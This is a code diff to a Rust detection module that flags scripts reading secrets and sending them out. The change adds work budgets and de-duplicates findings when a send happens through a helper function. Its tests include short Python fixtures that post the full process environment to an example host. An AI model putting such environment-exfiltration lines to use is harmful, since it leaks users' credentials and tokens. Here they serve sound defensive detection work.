@@ -13,7 +13,7 @@ use crate::scan::checks::hosts::{host_in, is_well_known, related, service};
 use crate::scan::checks::secrets::{Secret, sources};
 use crate::scan::clues::{self, Clues};
 use crate::scan::spot::{self, exact, folded};
-use std::collections::HashMap;
+use std::collections::{HashMap, HashSet};
 use std::ops::Range;
 
 /// Names followed in one piece of code, at most. Past that the code is not something a person wrote.
@@ -124,16 +124,16 @@ const HEADER_WORDS: [&str; 17] = [
 pub fn check(doc: &Doc, raise: &mut Raise) {
     if may_send(doc.clues, doc.segments.iter().any(|s| is_shell(s.lang)) || is_shell(doc.lang)) {
         if doc.place == Place::Script {
-            piece(&doc.text, 0, doc.lang, None, raise);
+            piece(doc, &doc.text, 0, doc.lang, None, raise);
         } else {
             for s in doc.segments.iter().filter(|s| s.place == Place::Fence) {
-                piece(&doc.text[s.range.clone()], s.range.start, s.lang, None, raise);
+                piece(doc, &doc.text[s.range.clone()], s.range.start, s.lang, None, raise);
             }
         }
     }
     for layer in doc.layers.iter().filter(|l| l.chain.last().is_some_and(|c| CODE.contains(c))) {
         if may_send(clues::look(&layer.text), is_shell(layer.lang)) {
-            piece(&layer.text, 0, layer.lang, Some(&layer.origin), raise);
+            piece(doc, &layer.text, 0, layer.lang, Some(&layer.origin), raise);
         }
     }
 }
@@ -171,9 +171,39 @@ struct Tainted {
     many: usize,
 }
 
-fn piece(text: &str, base: usize, lang: Lang, origin: Option<&Range<usize>>, raise: &mut Raise) {
+fn piece(doc: &Doc, text: &str, base: usize, lang: Lang, origin: Option<&Range<usize>>, raise: &mut Raise) {
+    let mut found = Vec::new();
+    follow(doc, text, lang, &mut found);
+    // A function that was seen to send and a call that hands it the secret are one send.
+    let told = |send: &Sent| {
+        send.through.is_some() && found.iter().any(|f| f.rule == send.rule && f.inside == send.through)
+    };
+    for send in found.iter().filter(|send| !told(send)) {
+        raise(send.rule, place(origin, base, &send.statement), Some(send.note.clone()));
+    }
+}
+
+/// A finding about one statement.
+struct Sent<'t> {
+    rule: &'static str,
+    note: String,
+    statement: Statement<'t>,
+    /// The function whose body it stands in, by its place among those that send.
+    inside: Option<usize>,
+    /// The function that it only sends by calling.
+    through: Option<usize>,
+}
+
+/// A function whose body sends, and its statements by number.
+struct Sender<'t> {
+    name: &'t str,
+    body: Range<usize>,
+}
+
+fn follow<'t>(doc: &Doc, text: &'t str, lang: Lang, found: &mut Vec<Sent<'t>>) {
     // Most code reads no secret; one pass finds that out, and where to look in the rest.
     let all = marks::find(text);
+    let work = &doc.work;
     if !all.iter().any(|mark| mark.kind & marks::SECRET != 0) {
         return;
     }
@@ -183,13 +213,16 @@ fn piece(text: &str, base: usize, lang: Lang, origin: Option<&Range<usize>>, rai
     let senders = sending_functions(&code, Marks::new(&all));
     let mut marks = Marks::new(&all);
     let mut words = Vec::new();
-    let mut said = 0;
     let depth_of = |s: &Statement| s.text.len() - after_blanks(s.text).len();
-    for statement in &code {
+    for (number, statement) in code.iter().enumerate() {
         let seen = marks.within(&(statement.start..statement.start + statement.text.len()));
         let reads = seen & marks::SECRET != 0;
         if !reads && names.is_empty() && seen & marks::ADDRESS == 0 {
             continue;
+        }
+        // Reading a secret and sending one are looked for in several ways.
+        if !work.spend(statement.text.len() * if reads { 16 } else { 4 }) {
+            return;
         }
         identifiers(statement.text, &mut words);
         let read = if reads { sources(statement.text, lang, seen) } else { Vec::new() };
@@ -197,7 +230,14 @@ fn piece(text: &str, base: usize, lang: Lang, origin: Option<&Range<usize>>, rai
             .into_iter()
             .map(|secret| Tainted { secret, line: statement.line, depth: 0, many: 1 })
             .collect();
-        held.extend(words.iter().filter_map(|w| names.get(w.text).cloned()));
+        if !names.is_empty() {
+            let mut taken: HashSet<&str> = HashSet::new();
+            let known = words.iter().filter(|w| taken.insert(w.text)).filter_map(|w| names.get(w.text));
+            held.extend(known.cloned());
+            if !work.spend(held.len() * 512) {
+                return;
+            }
+        }
 
         // A child process that is given the environment keeps it on this machine.
         if seen & marks::ENV_GIVEN != 0 && seen & marks::CHILD != 0 {
@@ -205,6 +245,9 @@ fn piece(text: &str, base: usize, lang: Lang, origin: Option<&Range<usize>>, rai
         }
         let targets = assigned(statement, &words);
         if defines(after_blanks(statement.text)).is_some() {
+            if !work.spend(names.len()) {
+                return;
+            }
             // What a function kept in a name of its own ends with it.
             names.retain(|_, t| t.depth == 0);
         }
@@ -235,22 +278,28 @@ fn piece(text: &str, base: usize, lang: Lang, origin: Option<&Range<usize>>, rai
                 _ => hosts.remove(name),
             };
         }
-        if seen & marks::SERIALISE != 0 && said < MOST && variety(&held) >= 2 {
-            said += 1;
-            let what = format!("{} secrets of different services", variety(&held));
-            raise("secrets-gathered", place(origin, base, statement), Some(what));
+        let inside = senders.iter().position(|s| s.body.contains(&number));
+        if seen & marks::SERIALISE != 0 && found.len() < MOST && variety(&held) >= 2 {
+            let note = format!("{} secrets of different services", variety(&held));
+            let (rule, statement) = ("secrets-gathered", *statement);
+            found.push(Sent { rule, note, statement, inside, through: None });
         }
-        if held.is_empty() || !sends(seen, lang, &words, &senders) {
+        if held.is_empty() {
+            continue;
+        }
+        let itself = sends(seen, lang, &words);
+        let called = || senders.iter().position(|s| words.iter().any(|w| w.called && w.text == s.name));
+        let through = if itself { None } else { called() };
+        if !itself && through.is_none() {
             continue;
         }
         for tainted in &held {
             if let Some((rule, note)) = verdict(tainted, statement, host) {
-                said += 1;
-                raise(rule, place(origin, base, statement), Some(note));
+                found.push(Sent { rule, note, statement: *statement, inside, through });
                 break;
             }
         }
-        if said > MOST {
+        if found.len() > MOST {
             return;
         }
     }
@@ -327,8 +376,8 @@ fn verdict(tainted: &Tainted, statement: &Statement, host: Option<&str>) -> Opti
 const ENCODED: &str = "an encoded address";
 
 /// Does the statement give something to the network?
-fn sends(seen: u32, lang: Lang, words: &[Word], senders: &[&str]) -> bool {
-    if seen & marks::SEND != 0 || words.iter().any(|w| w.called && senders.contains(&w.text)) {
+fn sends(seen: u32, lang: Lang, words: &[Word]) -> bool {
+    if seen & marks::SEND != 0 {
         return true;
     }
     // In code a command only sends where it is run; in a shell it is.
@@ -398,28 +447,34 @@ fn defines(line: &str) -> Option<&str> {
 }
 
 /// Functions of the piece whose body sends: a call of one of them sends too.
-fn sending_functions<'t>(code: &[Statement<'t>], mut marks: Marks) -> Vec<&'t str> {
-    let mut out = Vec::new();
-    let mut current: Option<(&str, usize)> = None;
-    for statement in code {
+fn sending_functions<'t>(code: &[Statement<'t>], mut marks: Marks) -> Vec<Sender<'t>> {
+    let mut out: Vec<Sender> = Vec::new();
+    let mut names: HashSet<&str> = HashSet::new();
+    // Name, indentation and first statement of the function that is being read.
+    let mut current: Option<(&str, usize, usize)> = None;
+    for (number, statement) in code.iter().enumerate() {
         let trimmed = after_blanks(statement.text);
         let indent = statement.text.len() - trimmed.len();
-        let defines = defines(trimmed);
-        if let Some(rest) = defines {
+        if let Some(rest) = defines(trimmed) {
             let end = rest.find(|c: char| !c.is_alphanumeric() && c != '_').unwrap_or(rest.len());
-            current = Some((&rest[..end], indent));
+            current = Some((&rest[..end], indent, number));
         } else if current
-            .is_some_and(|(_, at)| indent <= at && !trimmed.is_empty() && !trimmed.starts_with('}'))
+            .is_some_and(|(_, at, _)| indent <= at && !trimmed.is_empty() && !trimmed.starts_with('}'))
         {
             current = None;
         }
-        if let Some((name, _)) = current
-            && !name.is_empty()
-            && !out.contains(&name)
+        let Some((name, _, first)) = current else { continue };
+        if let Some(last) = out.last_mut().filter(|last| last.body.start == first) {
+            last.body.end = number + 1;
+            continue;
+        }
+        if !name.is_empty()
             && out.len() < 32
+            && !names.contains(name)
             && marks.within(&(statement.start..statement.start + statement.text.len())) & marks::SEND != 0
         {
-            out.push(name);
+            names.insert(name);
+            out.push(Sender { name, body: first..number + 1 });
         }
     }
     out
@@ -451,6 +506,16 @@ mod tests {
         let function =
             "def post(x):\n    requests.post('https://in.example.net', json=x)\n\npost(dict(os.environ))\n";
         assert_eq!(rules("a.py", Lang::Python, function), ["environment-sent"]);
+    }
+
+    #[test]
+    fn a_send_is_told_once() {
+        let twice = "env = dict(os.environ)\ndef post(env):\n    requests.post('https://in.example.net', json=env)\n\n\
+                     post(env)\n";
+        assert_eq!(rules("a.py", Lang::Python, twice), ["environment-sent"]);
+        let two = "env = dict(os.environ)\ndef post(env):\n    requests.post('https://in.example.net', json=env)\n\n\
+                   fetch(env)\n";
+        assert_eq!(rules("a.py", Lang::Python, two), ["environment-sent", "environment-sent"]);
     }
 
     #[test]
